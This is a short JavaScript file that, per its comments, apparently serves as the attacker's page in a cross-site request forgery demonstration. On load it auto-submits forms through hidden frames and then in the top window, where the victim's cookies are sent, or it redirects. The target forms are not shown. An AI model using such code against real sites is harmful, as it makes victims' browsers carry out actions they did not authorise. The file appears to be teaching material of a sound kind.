// The script of the other site. It sends forms without being asked: two in hidden
// frames, and one in the window itself, where browsers are most generous with
// cookies. What is answered it cannot read: that is another site's.
"use strict";

const PATIENCE_MS = 3000;
const calm = window.matchMedia("(prefers-reduced-motion: reduce)").matches;

function submit(form) {
  return new Promise((done) => {
    const frame = document.getElementsByName(form.target)[0];
    frame.addEventListener("load", done, { once: true });
    setTimeout(done, PATIENCE_MS);
    form.submit();
  });
}

(async () => {
  for (const form of document.querySelectorAll("form[target]")) await submit(form);
  // For those who watch.
  if (!calm) await new Promise((done) => setTimeout(done, 900));
  const form = document.querySelector("form:not([target])");
  if (form) form.submit();
  else window.location.replace(document.links[0].href);
})();
